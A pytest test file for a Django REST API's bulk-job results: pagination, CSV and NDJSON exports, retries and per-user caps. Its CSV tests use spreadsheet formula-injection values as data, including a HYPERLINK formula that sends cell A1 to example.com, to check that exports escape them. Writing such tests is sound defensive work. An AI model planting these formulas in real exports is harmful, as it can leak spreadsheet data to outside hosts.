"""A background job's results read back: pages by cursor and status filter, the summary and first
page of a job past ``JOB_INLINE_RESULTS``, exports as JSON lines and CSV, retries of some of its
items under their indexes, the list of a user's jobs, and the cap on active jobs."""

from __future__ import annotations

import base64
import csv
import io
import json
import re

import pytest
from django.http import StreamingHttpResponse

from demo_project.contacts.models import Contact
from drf_multistatus.jobs import JobPagination
from drf_multistatus.models import BulkJob, BulkJobChunk, IdempotencyRecord

from .conftest import DAV, MS, parse_multistatus, xml_results

pytestmark = pytest.mark.django_db

URL = "/api/contacts/"
JOBS = "/api/bulk-jobs/"
ASYNC = {"HTTP_PREFER": "respond-async"}
LINK = re.compile(r'<([^>]+)>; rel="([a-z]+)"')

#: The mixed batch: every 7th item's email is invalid (422), two items repeat item 0's (409).
SIZE = 60
DUPLICATES = (12, 41)
#: Items whose names a spreadsheet would run as formulas; their emails are invalid too, so they
#: are among the failed rows a CSV export holds.
FORMULAS = {3: "=SUM(A1:A9)", 17: "+1", 24: "-2", 31: "@cmd"}


@pytest.fixture(autouse=True)
def small_jobs(settings):
    """Chunks of 8 and at most 20 results inline, so that jobs of 60 items page."""
    settings.DRF_MULTISTATUS = {"JOB_CHUNK_SIZE": 8, "JOB_INLINE_RESULTS": 20}


@pytest.fixture
def mine(api, user):
    api.force_authenticate(user)
    return api


def expected_status(index: int) -> int:
    if index % 7 == 3:
        return 422
    return 409 if index in DUPLICATES else 201


def mixed(size: int = SIZE) -> list[dict[str, str]]:
    batch = []
    for i in range(size):
        email = {422: f"bad{i}", 409: "c0@example.com"}.get(expected_status(i), f"c{i}@example.com")
        batch.append({"name": FORMULAS.get(i, f"n{i}"), "email": email})
    return batch


def submit(api, batch, url=URL, **headers):
    response = api.post(url, batch, format="json", **{**ASYNC, **headers})
    assert response.status_code == 202, response.content
    return response


def job_id(job_url: str) -> str:
    return job_url.rstrip("/").rsplit("/", 1)[1]


def links(response) -> dict[str, str]:
    return {rel: url for url, rel in LINK.findall(response.get("Link", ""))}


def page(api, url, **headers):
    response = api.get(url, **headers)
    assert response.status_code == 200, response.content
    body = response.json()
    assert links(response) == {
        rel: body[key] for rel, key in (("next", "next"), ("prev", "previous")) if body[key]
    }
    return body


def walk(api, url) -> list[list[tuple[int, int]]]:
    """Every page from ``url`` on by ``next``, then from the last back by ``previous``: the
    pages read going forward (checked to be the pages read going back)."""
    forward = [page(api, url)]
    while forward[-1]["next"]:
        forward.append(page(api, forward[-1]["next"]))
    backward = [forward[-1]]
    while backward[-1]["previous"]:
        backward.append(page(api, backward[-1]["previous"]))
    pairs = [[(r["index"], r["status"]) for r in body["results"]] for body in forward]
    back = [[(r["index"], r["status"]) for r in body["results"]] for body in backward]
    assert back == pairs[::-1]
    assert forward[0]["previous"] is None and forward[-1]["next"] is None
    return pairs


@pytest.mark.parametrize(
    ("query", "wanted"),
    [
        ("", lambda code: True),
        ("422", lambda code: code == 422),
        ("4xx", lambda code: 400 <= code < 500),
        ("failed", lambda code: code >= 300),
        ("succeeded", lambda code: code < 300),
        ("409,201", lambda code: code in (409, 201)),
        ("%202XX%20,%20409%20", lambda code: code != 422),
    ],
    ids=["all", "code", "class", "failed", "succeeded", "codes", "spaced"],
)
def test_pages_visit_every_matching_result_once_both_ways(mine, run_jobs, query, wanted):
    job_url = submit(mine, mixed())["Location"]
    pages = walk(mine, f"{job_url}results/?page_size=7&status={query}")
    expected = [(i, expected_status(i)) for i in range(SIZE) if wanted(expected_status(i))]
    assert [pair for pairs in pages for pair in pairs] == expected
    assert [len(pairs) for pairs in pages[:-1]] == [7] * (len(pages) - 1)
    assert 1 <= len(pages[-1]) <= 7
    summary = mine.get(f"{job_url}results/?status={query}").json()["summary"]
    assert summary["total"] == SIZE  # the whole job's, whatever the page holds
    assert summary["by_status"] == {"201": 49, "409": 2, "422": 9}


def test_a_page_size_is_honoured_and_defaults_to_every_result_up_to_1000(mine, run_jobs):
    job_url = submit(mine, mixed())["Location"]
    body = page(mine, f"{job_url}results/")
    assert len(body["results"]) == SIZE and body["next"] is None
    body = page(mine, f"{job_url}results/?page_size=25&status=succeeded")
    assert len(body["results"]) == 25
    assert "page_size=25" in body["next"] and "status=succeeded" in body["next"]
    assert page(mine, f"{job_url}results/?status=409")["results"][0]["errors"] == {
        "email": ["contact with this email already exists."]
    }


def cursor(payload: object) -> str:
    raw = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ("page_size=0", "page_size"),
        ("page_size=10001", "page_size"),
        ("page_size=abc", "page_size"),
        ("page_size=-3", "page_size"),
        ("cursor=garbage!", "cursor"),
        (f"cursor={cursor({})}", "cursor"),
        (f"cursor={cursor([1])}", "cursor"),
        (f"cursor={cursor({'after': True})}", "cursor"),
        (f"cursor={cursor({'after': 1, 'before': 9})}", "cursor"),
        (f"cursor={cursor(b'[' * 50_000)}", "cursor"),  # not a RecursionError's 500
        ("status=600", "status"),
        ("status=6xx", "status"),
        ("status=bad", "status"),
        ("status=422,nope", "status"),
    ],
)
def test_a_bad_parameter_is_400_naming_it(mine, run_jobs, query, parameter):
    job_url = submit(mine, mixed(3))["Location"]
    response = mine.get(f"{job_url}results/?{query}")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert list(response.json()) == [parameter]


def test_an_ended_job_past_the_inline_limit_answers_its_summary_and_first_page(mine, run_jobs):
    job_url = submit(mine, mixed(30))["Location"]
    response = mine.get(job_url)
    assert response.status_code == 207
    body = response.json()
    assert body["summary"] == {
        "total": 30,
        "succeeded": 25,
        "failed": 5,
        "atomic": False,
        "by_status": {"201": 25, "409": 1, "422": 4},
        "request_id": BulkJob.objects.get().request_id,
    }
    assert [r["index"] for r in body["results"]] == list(range(20))
    assert body["previous"] is None
    assert links(response) == {"next": body["next"]}
    assert body["next"].startswith(f"{job_url}results/?")
    rest = page(mine, body["next"])  # pages of the same size follow
    assert [r["index"] for r in rest["results"]] == list(range(20, 30))
    assert rest["next"] is None

    xml = mine.get(job_url, HTTP_ACCEPT="application/xml")
    assert xml.status_code == 207
    assert xml["Content-Type"] == "application/xml; charset=utf-8"
    assert links(xml) == {"next": body["next"]}
    root = parse_multistatus(xml.content)
    assert [r["index"] for r in xml_results(root)] == list(range(20))
    assert root.get(f"{{{MS}}}total") == "30" and root.get(f"{{{MS}}}failed") == "5"
    assert root.tag == f"{{{DAV}}}multistatus"


def test_an_ended_job_at_the_inline_limit_answers_every_result(mine, run_jobs):
    job_url = submit(mine, mixed(20))["Location"]
    response = mine.get(job_url)
    assert response.status_code == 207
    body = response.json()
    assert [r["index"] for r in body["results"]] == list(range(20))
    assert body["summary"]["total"] == 20
    assert "next" not in body and "Link" not in response
    xml = mine.get(job_url, HTTP_ACCEPT="application/xml")
    assert len(xml_results(parse_multistatus(xml.content))) == 20
    assert "Link" not in xml


def streamed(response, media_type: str, job_url: str, extension: str) -> str:
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == f"{media_type}; charset=utf-8"
    name = f"job-{job_id(job_url)}.{extension}"
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    return b"".join(response.streaming_content).decode()


@pytest.mark.parametrize("how", ["accept", "format"])
@pytest.mark.parametrize("query", ["", "failed", "409,201"])
def test_json_lines_export_every_matching_result_once(mine, run_jobs, how, query):
    job_url = submit(mine, mixed())["Location"]
    every = page(mine, f"{job_url}results/?status={query}")["results"]
    if how == "accept":
        response = mine.get(f"{job_url}results/?status={query}", HTTP_ACCEPT="application/x-ndjson")
    else:
        response = mine.get(f"{job_url}results/?status={query}&format=ndjson")
    text = streamed(response, "application/x-ndjson", job_url, "ndjson")
    assert text.endswith("\n")
    assert [json.loads(line) for line in text.splitlines()] == every
    assert len(every) == {"": SIZE, "failed": 11, "409,201": 51}[query]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("how", ["accept", "format"])
def test_csv_export_of_the_failed_rows_escapes_formulas(mine, run_jobs, how):
    job_url = submit(mine, mixed())["Location"]
    if how == "accept":
        response = mine.get(f"{job_url}results/?status=failed", HTTP_ACCEPT="text/csv")
    else:
        response = mine.get(f"{job_url}results/?status=failed&format=csv")
    text = streamed(response, "text/csv", job_url, "csv")
    rows = rows_of(text)
    assert rows[0] == ["_index", "_status", "name", "email", "_errors"]
    failed = [i for i in range(SIZE) if expected_status(i) != 201]
    assert [(int(row[0]), int(row[1])) for row in rows[1:]] == [
        (i, expected_status(i)) for i in failed
    ]
    by_index = {int(row[0]): row for row in rows[1:]}
    assert by_index[3] == [
        "3",
        "422",
        "'=SUM(A1:A9)",
        "bad3",
        "email: Enter a valid email address.",
    ]
    assert [by_index[i][2] for i in (17, 24, 31)] == ["'+1", "'-2", "'@cmd"]
    assert by_index[12][2:] == [
        "n12",
        "c0@example.com",
        "email: contact with this email already exists.",
    ]
    every = rows_of(streamed(mine.get(f"{job_url}results/?format=csv"), "text/csv", job_url, "csv"))
    assert [int(row[0]) for row in every[1:]] == list(range(SIZE))
    assert {row[4] for row in every[1:] if row[1] == "201"} == {""}


def test_an_error_message_a_spreadsheet_would_run_is_escaped_too(mine, run_jobs):
    job_url = submit(mine, mixed(5))["Location"]
    chunk = BulkJobChunk.objects.get()  # as a validator echoing its input could have answered
    hostile = {"detail": '=HYPERLINK("http://example.com/?"&A1)'}
    chunk.results[3]["errors"] = chunk.failures[0]["errors"] = hostile
    chunk.save()
    text = streamed(mine.get(f"{job_url}results/?format=csv"), "text/csv", job_url, "csv")
    assert rows_of(text)[4] == ["3", "422", "'=SUM(A1:A9)", "bad3", "'" + hostile["detail"]]


def test_the_failed_rows_exported_fixed_and_uploaded_as_they_are_succeed(mine, run_jobs):
    job_url = submit(mine, mixed())["Location"]
    exported = b"".join(
        mine.get(f"{job_url}results/?status=failed", HTTP_ACCEPT="text/csv").streaming_content
    ).decode()
    fixed = re.sub(r",bad(\d+),", r",fixed\1@example.com,", exported)
    fixed = re.sub(
        r"^(\d+),409,(n\d+),c0@example.com,", r"\1,409,\2,\2@example.com,", fixed, flags=re.M
    )
    response = mine.generic("POST", URL, fixed.encode(), content_type="text/csv")
    assert response.status_code == 207, response.content
    results = response.json()["results"]
    assert [r["status"] for r in results] == [201] * 11
    assert Contact.objects.count() == SIZE
    names = dict(Contact.objects.values_list("email", "name"))
    assert names["fixed3@example.com"] == "=SUM(A1:A9)"  # the ' the export put there is dropped
    assert [names[f"fixed{i}@example.com"] for i in (17, 24, 31)] == ["+1", "-2", "@cmd"]
    assert names["n41@example.com"] == "n41"
    assert all(set(r["data"]) >= {"id", "name", "email"} for r in results)


def results_of(api, job_url) -> list[tuple[int, int]]:
    body = api.get(job_url)
    assert body.status_code == 207
    return [(r["index"], r["status"]) for r in body.json()["results"]]


def test_a_retry_sends_the_failed_items_again_under_their_indexes(mine, run_jobs):
    job_url = submit(mine, mixed())["Location"]
    failed = [(i, expected_status(i)) for i in range(SIZE) if expected_status(i) != 201]
    response = mine.post(f"{job_url}retry/", format="json")
    assert response.status_code == 202
    again = response["Location"]
    assert again != job_url and again == response.json()["href"]
    assert response["Retry-After"] == "1"
    assert response.json()["retry_of"] == job_url
    assert response.json()["total"] == len(failed)
    assert results_of(mine, again) == failed  # still failing: the items are as they were
    assert results_of(mine, job_url)[:4] == [(0, 201), (1, 201), (2, 201), (3, 422)]
    pages = walk(mine, f"{again}results/?page_size=4")
    assert [pair for pairs in pages for pair in pairs] == failed
    assert str(BulkJob.objects.get(pk=response.json()["id"]).retry_of_id) == job_id(job_url)

    only = mine.post(f"{job_url}retry/", {"status": ["409"]}, format="json")
    assert results_of(mine, only["Location"]) == [(i, 409) for i in DUPLICATES]
    as_number = mine.post(f"{job_url}retry/", {"status": 409}, format="json")
    assert results_of(mine, as_number["Location"]) == [(i, 409) for i in DUPLICATES]
    # Of a retry: the first job's indexes still.
    twice = mine.post(f"{again}retry/", {"status": ["4xx"]}, format="json")
    assert twice.json()["retry_of"] == again
    assert results_of(mine, twice["Location"]) == failed
    listed = {job["id"]: job["retry_of"] for job in mine.get(JOBS).json()["results"]}
    assert listed[job_id(job_url)] is None
    assert listed[twice.json()["id"]] == again


def test_items_that_now_succeed_are_written_by_the_retry(mine, run_jobs):
    batch = [{"name": "A", "email": "a@example.com"}, {"name": "B", "email": "taken@example.com"}]
    Contact.objects.create(name="T", email="taken@example.com")
    job_url = submit(mine, batch)["Location"]
    assert results_of(mine, job_url) == [(0, 201), (1, 409)]
    Contact.objects.filter(email="taken@example.com").delete()
    again = mine.post(f"{job_url}retry/", format="json")["Location"]
    assert results_of(mine, again) == [(1, 201)]
    assert Contact.objects.get(email="taken@example.com").name == "B"


def test_a_retry_with_an_idempotency_key_makes_one_job(mine, run_jobs):
    job_url = submit(mine, mixed(10))["Location"]
    key = {"HTTP_IDEMPOTENCY_KEY": '"retry-1"'}
    first = mine.post(f"{job_url}retry/", {"status": ["failed"]}, format="json", **key)
    again = mine.post(f"{job_url}retry/", {"status": ["failed"]}, format="json", **key)
    assert first.status_code == again.status_code == 202
    assert again["Location"] == first["Location"]
    assert again["Idempotent-Replayed"] == "true"
    assert BulkJob.objects.count() == 2
    other = mine.post(f"{job_url}retry/", {"status": ["409"]}, format="json", **key)
    assert other.status_code == 422
    assert other.json()["detail"].startswith("This Idempotency-Key was used for another request")
    assert BulkJob.objects.count() == 2


def test_a_retry_with_nothing_to_send_is_409_and_makes_no_job(mine, run_jobs):
    job_url = submit(mine, mixed(3))["Location"]  # 201, 201, 201
    for body in ({}, {"status": ["failed"]}, {"status": ["5xx"]}):
        response = mine.post(f"{job_url}retry/", body, format="json")
        assert response.status_code == 409
        assert response.json() == {
            "detail": "No result of this job has the statuses asked for; there is nothing to retry."
        }
    assert mine.post(f"{job_url}retry/", {"status": ["201"]}, format="json").status_code == 202
    assert BulkJob.objects.count() == 2


@pytest.mark.parametrize(
    "body",
    [{"status": ["bad"]}, {"status": "6xx"}, {"status": {"4xx": 1}}, {"status": [True]}, [1]],
)
def test_a_retry_asking_for_no_status_is_400(mine, run_jobs, body):
    job_url = submit(mine, mixed(10))["Location"]
    response = mine.post(f"{job_url}retry/", body, format="json")
    assert response.status_code == 400
    assert list(response.json()) == ["non_field_errors" if body == [1] else "status"]
    assert BulkJob.objects.count() == 1


def test_a_job_not_ended_is_not_retried(mine):
    job_url = submit(mine, mixed(10))["Location"]  # queued: no commit callbacks run here
    response = mine.post(f"{job_url}retry/", format="json")
    assert response.status_code == 409
    assert response["Retry-After"] == "1"
    assert BulkJob.objects.count() == 1


def test_another_user_reads_and_retries_nothing_of_my_job(api, run_jobs, user, other_user):
    api.force_authenticate(user)
    job_url = submit(api, mixed(10))["Location"]
    api.force_authenticate(other_user)
    assert api.get(f"{job_url}results/").status_code == 404
    assert api.get(f"{job_url}results/", HTTP_ACCEPT="text/csv").status_code == 404
    assert api.get(f"{job_url}results/?format=ndjson").status_code == 404
    assert api.post(f"{job_url}retry/", format="json").status_code == 404
    assert api.get(JOBS).json()["results"] == []
    api.force_authenticate(None)
    assert api.get(f"{job_url}results/").status_code == 404
    assert api.post(f"{job_url}retry/", format="json").status_code == 404
    assert BulkJob.objects.count() == 1


def test_the_job_list_is_the_users_own_newest_first_by_page(
    api, run_jobs, user, other_user, monkeypatch
):
    monkeypatch.setattr(JobPagination, "page_size", 2)
    api.force_authenticate(other_user)
    theirs = submit(api, mixed(1)).json()["id"]
    api.force_authenticate(user)
    ids = [
        submit(api, [{"name": "x", "email": f"x{i}@example.com"}]).json()["id"] for i in range(3)
    ]
    first = api.get(JOBS)
    assert first.status_code == 200
    body = first.json()
    assert [job["id"] for job in body["results"]] == ids[:0:-1]
    assert body["previous"] is None and body["next"]
    second = api.get(body["next"]).json()
    assert [job["id"] for job in second["results"]] == ids[:1]
    assert second["next"] is None
    assert theirs not in {job["id"] for job in body["results"] + second["results"]}
    assert {job["state"] for job in body["results"] + second["results"]} == {"finished"}
    assert body["results"][0]["by_status"] == {"201": 1}


def test_anonymous_clients_list_no_jobs(api, run_jobs):
    submit(api, mixed(1))  # an anonymous job: reachable by its URL alone
    response = api.get(JOBS)
    assert response.status_code == 401
    assert response["WWW-Authenticate"].startswith("Basic")
    assert response.json() == {"detail": "Authenticate to list your jobs."}


def test_one_job_more_than_max_active_jobs_is_429_and_stores_nothing(
    api, user, other_user, settings
):
    """Without ``run_jobs``: the jobs stay queued."""
    from drf_multistatus.worker import run_job

    settings.DRF_MULTISTATUS = {"MAX_ACTIVE_JOBS": 2, "JOB_CHUNK_SIZE": 8}
    api.force_authenticate(user)
    queued = [submit(api, mixed(10)).json()["id"] for _ in range(2)]
    refused = api.post(URL, mixed(10), format="json", **ASYNC)
    assert refused.status_code == 429
    assert refused["Retry-After"] == "5"
    assert refused.json()["detail"].startswith("2 background jobs of yours are queued or running")
    keyed = api.post(URL, mixed(10), format="json", HTTP_IDEMPOTENCY_KEY='"k"', **ASYNC)
    assert keyed.status_code == 429
    assert BulkJob.objects.count() == 2 and BulkJobChunk.objects.count() == 4
    assert not IdempotencyRecord.objects.exists() and not Contact.objects.exists()
    api.force_authenticate(other_user)  # a cap per user
    assert submit(api, mixed(1)).status_code == 202
    api.force_authenticate(user)
    run_job(queued[0])
    assert submit(api, mixed(1)).status_code == 202
    retry = api.post(f"{JOBS}{queued[0]}/retry/", format="json")  # a retry is a job too
    assert retry.status_code == 429 and retry["Retry-After"] == "5"
    assert BulkJob.objects.filter(retry_of__isnull=False).count() == 0
